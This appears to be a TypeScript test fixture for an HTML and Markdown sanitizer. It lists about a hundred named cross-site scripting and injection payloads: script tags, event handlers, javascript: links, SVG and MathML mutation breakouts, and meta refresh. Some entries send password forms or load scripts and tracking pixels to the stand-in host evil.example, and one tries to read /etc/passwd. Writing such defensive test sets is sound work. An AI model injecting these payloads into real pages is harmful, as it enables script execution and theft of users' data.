/*
 * Ways in which HTML tries to run a script, to load something, to send somebody elsewhere or to break out of where
 * it was put, one of each kind. A script that ran would call `hit`; whatever is loaded or visited is at evil.example.
 */

const EVIL = 'evil.example';

/** Kinds by name, as HTML that somebody sends. */
export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  // Scripts
  'a script': '<script>hit()</script>',
  'a script from elsewhere': `<script src="https://${EVIL}/a.js"></script>`,
  'a script in mixed case': '<ScRiPt>hit()</sCrIpT>',
  'a script with odd spaces': '<script\t\n/x>hit()</script\n>',
  'a script that is never closed': '<p>a</p><script>hit()',
  'a script whose tag is split by another': '<scr<script>ipt>hit()</scr</script>ipt>',
  'a script behind doubled brackets': '<<script>hit();//<</script>',
  'a script in a NUL-free disguise': '<scr\u00adipt>hit()</scr\u00adipt><script>hit()</script>',
  'a script of another language': '<script type="module" language="vbscript">hit()</script>',
  'a script hidden in a comment': '<!--><script>hit()</script>-->',
  'a script behind a comment that ends oddly': '<!-- --!><script>hit()</script><!-- -->',
  'a script behind a conditional comment': '<!--[if gte IE 4]><script>hit()</script><![endif]-->',
  'a script in a CDATA section': '<![CDATA[<script>hit()</script>]]>',
  'a script behind a processing instruction': '<?xml version="1.0"?><script>hit()</script><?php hit() ?>',
  // Handlers
  'a handler of an image': '<img src="x" onerror="hit()">',
  'a handler without quotes': '<img src=x onerror=hit()//',
  'a handler behind a slash': '<img/src="x"/onerror="hit()">',
  'a handler behind a back tick': '<img src=`x` onerror=`hit()`>',
  'a handler behind a broken attribute': '<img """><img src="x" onerror="hit()">">',
  'a handler behind a control character': '<img src=x \u000conerror\u000b=\u0001hit()>',
  'a handler on an allowed tag': '<p onmouseover="hit()" onfocus=hit() tabindex=1 autofocus>over me</p>',
  'a handler on a link': '<a href="https://ok.example" onclick="hit()">ok</a>',
  'a handler in an attribute that is never closed': '<p title="<img src=x onerror=hit()>">a</p>',
  'a handler of the body': '<body onload="hit()" onpageshow="hit()"><p>a</p></body>',
  'a handler of something that opens': '<details open ontoggle="hit()"><summary>a</summary></details>',
  'a handler of an animation': '<p style="animation:x 1s" onanimationstart="hit()">a</p>',
  'a handler of a field':
    '<input autofocus onfocus="hit()"><select autofocus onfocus="hit()"><option>a</select>',
  'a handler of a medium':
    '<video src=x onerror="hit()"><source onerror="hit()"></video><audio src=x onerror=hit()></audio>',
  'a handler of a marquee': '<marquee onstart="hit()">a</marquee>',
  'a handler whose name is written in entities': '<img src=x on&#101;rror="hit()" &#111;nerror="hit()">',
  // Addresses that run
  'an address that is a script': '<a href="javascript:hit()">a</a>',
  'such an address in mixed case': '<a href=" JaVaScRiPt:hit()">a</a>',
  'such an address written in entities': '<a href="&#106;&#x61;vascript&colon;hit()">a</a>',
  'such an address written in entities without ends': '<a href="&#0000106&#0000097vascript:hit()">a</a>',
  'such an address with a tab in it':
    '<a href="jav&Tab;ascript:hit()">a</a><a href="java\nscript:hit()">b</a>',
  'such an address behind control characters': '<a href="&#1;&#14; javascript:hit()">a</a>',
  'such an address behind https':
    '<a href="https:javascript:hit()">a</a><a href="https://javascript:hit()">b</a>',
  'an address of VBScript': '<a href="vbscript:hit()">a</a>',
  'an address that holds a page': '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">a</a>',
  'an address of a file': '<a href="file:///etc/passwd">a</a><a href="blob:https://evil.example/1">b</a>',
  'an address without a scheme': `<a href="//${EVIL}">a</a><a href="/\\${EVIL}">b</a><a href="\\\\${EVIL}">c</a>`,
  'an address that pretends to be another host': `<a href="https://images.example.com@${EVIL}/">a</a>`,
  'an address without encryption': `<a href="http://${EVIL}">a</a><a href="ftp://${EVIL}">b</a>`,
  'an image that is a script':
    '<img src="javascript:hit()" lowsrc="javascript:hit()" dynsrc="javascript:hit()">',
  'an image that counts readers': `<img src="https://${EVIL}/pixel.gif" width=1 height=1>`,
  'an image with other sources': `<img src="https://images.example.com/a.png" srcset="https://${EVIL}/a.png 2x">`,
  'an image of a host with a longer name': `<img src="https://images.example.com.${EVIL}/a.png">`,
  'an image of a host behind ours': `<img src="https://images.example.com@${EVIL}/a.png">`,
  'an image of our host with a back slash': `<img src="https://${EVIL}\\@images.example.com/a.png">`,
  'a picture in data': '<img src="data:image/svg+xml,<svg onload=hit()>">',
  // Frames and objects
  'a frame': `<iframe src="https://${EVIL}"></iframe>`,
  'a frame with a page in it': '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  'a frame that runs a script': '<iframe src="javascript:parent.hit()"></iframe>',
  'a set of frames': '<frameset onload="hit()"><frame src="javascript:hit()"></frameset>',
  'an object': '<object data="javascript:hit()"><param name=movie value="javascript:hit()"></object>',
  'an embedded thing': `<embed src="https://${EVIL}/a.swf" allowscriptaccess="always">`,
  'an applet': `<applet code="Hit.class" codebase="https://${EVIL}"></applet>`,
  'a portal': `<portal src="https://${EVIL}" onload="hit()"></portal>`,
  // Other languages inside HTML
  'a drawing': '<svg onload="hit()"><script>hit()</script></svg>',
  'a drawing with a link': '<svg><a xlink:href="javascript:hit()"><text y="9">a</text></a></svg>',
  'a drawing that changes a link':
    '<svg><a><animate attributeName="href" values="javascript:hit()"/><text y=9>a</text></a></svg>',
  'a drawing that brings a page along':
    '<svg><foreignObject><body onload="hit()"></body></foreignObject></svg>',
  'a drawing that uses another': `<svg><use href="https://${EVIL}/a.svg#x"></use></svg>`,
  'a formula': '<math><maction actiontype="statusline" xlink:href="javascript:hit()">a</maction></math>',
  'a formula that hides a style':
    '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>',
  'a drawing that hides a style': '<svg></p><style><a title="</style><img src=x onerror=hit()>">',
  // Text that is none to one parser
  'a text area that ends early': '<textarea><p title="</textarea><img src=x onerror=hit()>"></textarea>',
  'a title that ends early': '<title><p title="</title><img src=x onerror=hit()>"></title>',
  'a noscript that ends early': '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  'a template': '<template><script>hit()</script><img src=x onerror=hit()></template>',
  'raw text':
    '<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp><noembed><img title="</noembed><img src=x onerror=hit()>">',
  'plain text without an end': '<plaintext><img src=x onerror=hit()>',
  'a shadow root': '<p><template shadowrootmode="open"><img src=x onerror=hit()></template></p>',
  // Styles
  'a style': `<style>@import "https://${EVIL}/a.css"; p { background: url("https://${EVIL}/a.png") }</style>`,
  'a style on a tag': `<p style="background:url(https://${EVIL}/a.png)">a</p>`,
  'a style that covers the page': `<a style="position:fixed;inset:0" href="http://${EVIL}">a</a>`,
  'a style that runs':
    '<p style="width:expression(hit());-moz-binding:url(x.xml#hit);behavior:url(x.htc)">a</p>',
  'a style sheet': `<link rel="stylesheet" href="https://${EVIL}/a.css"><link rel="prefetch" href="https://${EVIL}">`,
  // The page around it
  'a refresh': `<meta http-equiv="refresh" content="0;url=https://${EVIL}">`,
  'a policy': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  'a base': `<base href="https://${EVIL}/"><a href="a">a</a>`,
  'a form': `<form action="https://${EVIL}"><input name=password><button formaction="javascript:hit()">a</button></form>`,
  'names that hide what a page needs': '<img name="getElementById"><a id="document" name="cookie">a</a>',
  'a way out of the page': '</p></div></body></html><script>hit()</script>',
  'a doctype of its own': '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
  'another character set': '<meta charset="utf-7">+ADw-script+AD4-hit()+ADw-/script+AD4-',
  'an old data island':
    '<xml id=x><![CDATA[<img src=x onerror=hit()>]]></xml><span datasrc=#x datafld=y></span>',
  'something that calls itself something else':
    '<x contenteditable onblur=hit() is="hit-me" slot=a>lose focus</x>',
};

/** The same kinds as Markdown writes them, and those that only Markdown has. */
export const HOSTILE_MARKDOWN: Readonly<Record<string, string>> = {
  ...HOSTILE_HTML,
  'a link that is a script': '[a](javascript:hit())',
  'such a link in angles': '[a](<java script:hit()>) [b](<JAVASCRIPT:hit()>)',
  'such a link written in entities': '[a](&#106;avascript:hit()) [b](javascript&colon;hit())',
  'a link that a reference completes': '[a][1]\n\n[1]: javascript:hit()',
  'a link to data': '[a](data:text/html,<script>hit()</script>)',
  'an automatic link': '<javascript:hit()>',
  'an image that runs': '![a](javascript:hit()) ![b](https://evil.example/pixel.gif "x")',
  'a title that breaks out': '[a](https://ok.example "x\\" onclick=\\"hit()")',
  'an alternative that breaks out': '![x" onerror="hit()](https://images.example.com/a.png)',
  'code that looks like a tag': '`<script>hit()</script>`\n\n    <img src=x onerror=hit()>',
  'HTML across paragraphs': '<p title="\n\n<img src=x onerror=hit()>\n\n">a</p>',
};
